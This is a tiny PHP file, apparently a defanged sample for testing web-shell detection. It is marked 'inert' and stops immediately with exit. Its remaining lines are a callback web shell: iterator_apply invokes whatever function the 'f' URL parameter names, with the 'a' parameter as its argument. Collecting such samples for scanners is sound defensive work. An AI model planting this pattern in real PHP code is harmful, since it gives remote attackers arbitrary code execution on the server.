<?php exit; /* inert */ 
$it = new ArrayIterator(array('1'));
iterator_apply($it, $_GET['f'], array($_GET['a']));
